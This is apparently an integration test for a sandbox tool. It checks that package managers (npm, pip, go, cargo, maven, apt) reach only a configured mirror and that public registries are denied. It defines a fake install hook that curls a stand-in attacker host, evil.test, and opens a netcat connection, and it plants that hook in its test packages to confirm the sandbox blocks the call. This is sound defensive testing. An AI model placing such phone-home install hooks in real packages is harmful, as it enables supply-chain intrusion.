#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Mirrors of registries: package managers find theirs by what is handed in, the mirror's address is
the only one that is open, public registries are closed with a hint that names it. In a network of
the test's own; a hook of each package phones home, and not one packet leaves.
"""

import hashlib
import http.server
import json
import os
import shutil
import sys
import threading

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
import servers  # noqa: E402
import tap  # noqa: E402
import world as worlds  # noqa: E402
from place import SANDGLASS, Place, identities_once  # noqa: E402
from world import ALLOWED, OTHER  # noqa: E402

LOCAL, PORT = "http://127.0.0.1:4873", 8080  # one mirror on the host's loopback, one elsewhere
HOOK = "curl -m 2 http://evil.test/ || busybox nc -w 1 9.9.9.9 80 </dev/null || true"
worlds.PORTS = (80, 81, 443)
BEGIN = "set -e; work=$(mktemp -d); cd $work; "
NPM = BEGIN + "echo '{}' >package.json; npm install --cache=$PWD/c --no-audit --no-fund " \
    "--fetch-retries=0 hello >&2; node -p \"require('hello')\""
PIP = BEGIN + "python3 -m pip install -q --disable-pip-version-check --no-cache-dir " \
    "--no-build-isolation --target=t hello >&2; cd t; python3 -c 'import hello; print(hello.SAYS)'"
GO = BEGIN + "export GOFLAGS=-mod=mod GOPATH=$PWD/p GOCACHE=$PWD/b; go mod download go.test/hello@v1.0.0; " \
    "cat p/pkg/mod/go.test/hello@v1.0.0/hello.go; chmod -R u+w p"
CARGO = BEGIN + "cat /.cargo/config.toml; case $(cargo --version 2>&1) in 'cargo 1.'[7-9]?.*|'cargo 1.1'??.*) " \
    "mkdir src; " \
    "echo 'fn main() {}' >src/main.rs; printf '[package]\\nname = \"a\"\\nversion = \"1.0.0\"\\n" \
    "[dependencies]\\nhello = \"1\"\\n' >Cargo.toml; CARGO_HOME=$PWD/h cargo fetch; " \
    "cat h/registry/src/*/hello-1.0.0/src/lib.rs; echo fetched;; esac"


def files():
    """path -> bytes, of both mirrors: a registry of npm, an index of pip, a proxy of go, an index of cargo."""
    got = {}
    for path, data in servers.npm_files(HOOK).items():
        got["/npm" + path] = data.replace(b"https://npm.test", LOCAL.encode() + b"/npm")
    for path, data in servers.pip_files(HOOK).items():
        got[path] = data
    for path, data in servers.go_files().items():
        got["/go" + path] = data
    crate = servers.packed({"hello-1.0.0/Cargo.toml": '[package]\nname = "hello"\nversion = "1.0.0"\n',
                            "hello-1.0.0/src/lib.rs": "// hello of cargo\n"}, "w:gz")
    about = {"name": "hello", "vers": "1.0.0", "deps": [], "features": {}, "yanked": False,
             "cksum": hashlib.sha256(crate).hexdigest()}
    got["/crates/config.json"] = json.dumps({"dl": f"http://mirror.test:{PORT}/dl/{{crate}}"}).encode()
    got["/crates/he/ll/hello"] = json.dumps(about).encode() + b"\n"
    got["/dl/hello"] = crate
    return got


def serve(world, address, port):
    class Web(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *_):
            pass

        def do_GET(self):
            world.note("mirror", port, self.path)
            data = world.files.get(self.path.split("?")[0])
            self.send_response(200 if data is not None else 404)
            self.send_header("Content-Type", "text/html" if (data or b"").startswith(b"<a") else
                             "application/octet-stream")
            self.send_header("Content-Length", str(len(data or b"")))
            self.end_headers()
            self.wfile.write(data or b"")

    server = http.server.ThreadingHTTPServer((address, port), Web)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()


MIRRORS = {"npm": f"{LOCAL}/npm", "pip": f"http://mirror.test:{PORT}/simple/",
           "go": f"http://mirror.test:{PORT}/go", "cargo": f"http://mirror.test:{PORT}/crates",
           "maven": f"http://mirror.test:{PORT}/maven", "apt": f"http://mirror.test:{PORT}/debian"}


def policy(place, more="", **mirrors):
    """One of --policy."""
    text = "".join(f"    {name}: '{url}'\n" for name, url in (mirrors or MIRRORS).items())
    return place.write(f"{place.out}/policy.yaml", f"version: 1\nnetwork:\n  mirror:\n{text}{more}", 0o644)


def inside(place, script, *options):
    done = place.run([SANDGLASS, "run", "--json", "--timeout", "100s", *options, "-c", script], timeout=120)
    try:
        return json.loads(done.out), done
    except ValueError:
        return {"ok": False, "stdout": {"text": ""}, "denials": [], "error": None}, done


def said(result):
    return result["stdout"]["text"]


def elsewhere(world):
    seen = [row for row in world.forget() if row[0] != "mirror"]
    return seen + [q for q in world.last_queries if not q[0].startswith("mirror.test")]


def clients(place, world):
    who, mine = place.who.name, policy(place)
    bare = f"export npm_config_registry={MIRRORS['npm']}; "
    world.forget()
    done = place.run(["sh", "-c", bare + NPM])
    tap.ok(done.status == 0 and "hello of npm" in done.out and elsewhere(world),
           f"npm: bare, its hook phones home ({who})", done)
    for name, script, says in (("npm", NPM, "hello of npm"), ("pip", PIP, "hello of pip"),
                               ("go", GO, "hello of go"), ("cargo", CARGO, "hello of cargo")):
        result, done = inside(place, script, "--policy", mine)
        old = name == "cargo" and "fetched" not in said(result)  # or not there: then what it would read
        tap.ok(result["ok"] and (f"sparse+{MIRRORS['cargo']}/" if old else says) in said(result),
               f"{name}: its mirror is found without a word of the project's ({who})", done)
        away = elsewhere(world)
        tap.ok(not away, f"{name}: nothing goes anywhere else ({who})", away)
        if name in ("npm", "pip"):
            tap.ok(any(row["target"].startswith("evil.test") for row in result["denials"]),
                   f"{name}: the result says where the hook wanted to go ({who})", result["denials"])


def told(place, world):
    """What the managers themselves say, and that nobody inside changes it."""
    who, mine = place.who.name, policy(place)
    result, done = inside(place, "npm config get registry; go env GOPROXY GOSUMDB; "
                          "python3 -m pip config list; apt-get update -qq >&2; "
                          "cat $APT_CONFIG ${MAVEN_ARGS#-s } /etc/mavenrc; "
                          "rm -f /.cargo/config.toml ${MAVEN_ARGS#-s } $APT_CONFIG /etc/mavenrc; "
                          "echo x >>/.cargo/config.toml; ls /.cargo/config.toml $APT_CONFIG", "--policy", mine)
    asked = [row[2] for row in world.forget() if row[0] == "mirror"]
    tap.ok(any(path.startswith("/debian/dists/") and path.endswith("/InRelease") for path in asked),
           f"apt asks it for the host's release ({who})", asked, done)
    wanted = (MIRRORS["npm"], MIRRORS["go"], "\noff\n", f"index-url='{MIRRORS['pip']}'",
              f"trusted-host='mirror.test:{PORT}'", f"<url>{MIRRORS['maven']}</url>",
              "set -- -s /etc/sandglass-mirror/settings.xml", "\n/.cargo/config.toml\n")
    tap.ok(all(text in said(result) for text in wanted) and "x" not in said(result).split(),
           f"each says its mirror, and the files stay as they are ({who})", done)
    if shutil.which("mvn"):
        result, done = inside(place, BEGIN + "printf '<project><modelVersion>4.0.0</modelVersion><groupId>a"
                              "</groupId><artifactId>b</artifactId><version>1</version></project>' >pom.xml; "
                              "mvn -o -X -B validate", "--policy", mine)
        tap.ok(f"Using mirror sandglass-mirror ({MIRRORS['maven']})" in said(result),
               f"maven: takes it for central ({who})", done)
    world.forget()


def network(shown):
    return shown[shown.index("network:"):shown.index("secrets:")]


def closed(place, world):
    """Deny beats allow, also for what stands for a mirror."""
    who = place.who.name
    fetch = "curl -sS -m 5 http://registry.npmjs.org:81/; curl -sS -m 5 http://static.crates.io:81/"
    world.forget()
    result, done = inside(place, fetch, "--allow-host", "*:81")
    tap.ok(said(result).count("reached") == 2, f"registries are reached where a rule opens them ({who})", done)
    world.forget()
    result, done = inside(place, fetch, "--allow-host", "*:81", "--policy", policy(place))
    rows = [row for row in result["denials"] if row["target"] == "registry.npmjs.org:81"]
    tap.ok("reached" not in said(result) and not elsewhere(world) and rows and
           rows[0]["rule"] == f"network.mirror[0] npm {MIRRORS['npm']}" and MIRRORS["npm"] in rows[0]["hint"],
           f"with a mirror they are not, and the hint names it ({who})", done)
    result, done = inside(place, fetch, "--allow-host", "*:81", "--policy", policy(place, npm=MIRRORS["npm"]))
    tap.ok(said(result).count("reached") == 1, f"of other managers they still are ({who})", done)
    world.forget()
    result, done = inside(place, "curl -sS -m 5 http://mirror.test:81/; curl -sS -m 5 http://mirror.test/",
                          "--policy", policy(place))
    tap.ok("reached" not in said(result) and not [row for row in world.forget() if row[0] == "tcp"],
           f"and of the mirror's host no other port ({who})", done)
    done = place.run([SANDGLASS, "policy", "explain", "--policy", policy(place), "--host", "files.pythonhosted.org"])
    tap.ok(done.status == 1 and "network.mirror[1] pip" in done.out and "policy.yaml:5" in done.out,
           f"explain says by which mirror one is closed ({who})", done)
    shown = place.run([SANDGLASS, "policy", "show", "--policy", policy(place)]).out
    place.write(f"{place.out}/again.yaml", shown, 0o644)
    done = place.run([SANDGLASS, "policy", "show", "--policy", f"{place.out}/again.yaml"])
    tap.ok(f'    npm: "{MIRRORS["npm"]}"\n' in shown and network(done.out) == network(shown),
           f"what show shows is a policy again ({who})", shown, done)


def layers(place, world):
    """A project's file opens nothing and points to nothing before somebody has read it."""
    who, mine = place.who.name, "echo $npm_config_registry; curl -sS -m 5 http://mirror.test:81/"
    project = f"{place.src}/.sandglass/policy.yaml"
    os.makedirs(os.path.dirname(project), exist_ok=True)
    place.own(os.path.dirname(project))
    place.write(project, "version: 1\nnetwork: {mirror: {npm: 'http://mirror.test:81/'}}\n", 0o644)
    result, done = inside(place, mine)
    tap.ok("mirror.test" not in said(result) and "reached" not in said(result),
           f"a project's mirror does not count before it is trusted ({who})", done)
    done = place.run([SANDGLASS, "policy", "check", project])
    tap.ok(done.status == 0 and "network.mirror" in done.out, f"policy check says so ({who})", done)
    place.run([SANDGLASS, "policy", "trust", project])
    result, done = inside(place, mine)
    tap.ok("http://mirror.test:81/" in said(result) and "reached" in said(result), f"then it does ({who})", done)
    result, done = inside(place, mine, "--policy", policy(place, npm=MIRRORS["npm"]))
    tap.ok(MIRRORS["npm"] in said(result) and "reached" not in said(result),
           f"of one manager the highest layer's counts alone ({who})", done)
    place.write(project, "version: 1\nnetwork: {deny: [mirror.test]}\n", 0o644)
    result, done = inside(place, "curl -sS -m 5 http://mirror.test:8080/npm/hello", "--policy", policy(place))
    tap.ok("hello of npm" not in said(result) and any(row["rule"].startswith("network.deny[0]") for row in result["denials"]),
           f"a project's file that is not trusted can close one ({who})", done)
    os.unlink(project)
    world.forget()


def sessions(place, world):
    who = place.who.name
    done = place.run([SANDGLASS, "session", "new", "--policy", policy(place)])
    session = done.out.strip().split("\n")[0]
    done = place.run([SANDGLASS, "session", "exec", session, "sh", "-c",
                      "curl -sS $npm_config_registry/hello; cat $APT_CONFIG"])
    tap.ok("dist-tags" in done.out and "/etc/sandglass-mirror/sources.list" in done.out,
           f"a session has them, too ({who})", done)
    away = elsewhere(world)
    tap.ok(not away, f"and nothing else ({who})", away)
    place.run([SANDGLASS, "session", "rm", "--force", session])


def main():
    world = worlds.begin()
    world.files = files()
    world.names.update({**{name: [ALLOWED] for name in ("mirror.test", "registry.npmjs.org", "static.crates.io")},
                        "evil.test": [OTHER]})
    serve(world, "127.0.0.1", 4873)
    serve(world, "0.0.0.0", PORT)
    try:
        for who in identities_once():
            place = Place(who)
            for part in (clients, told, closed, layers, sessions):
                tap.attempt(f"{part.__name__} ({who.name})", part, place, world)
            place.close()
    finally:
        world.close()
    return tap.done()


if __name__ == "__main__":
    sys.exit(main())
